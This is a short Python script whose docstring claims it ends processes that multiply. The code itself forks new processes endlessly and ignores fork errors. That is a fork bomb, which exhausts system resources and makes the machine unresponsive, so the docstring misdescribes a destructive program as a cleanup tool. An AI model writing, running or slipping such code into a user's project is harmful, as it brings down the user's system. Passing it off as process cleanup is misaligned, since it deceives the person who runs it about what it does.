"""Processes that multiply are ended, all of them."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
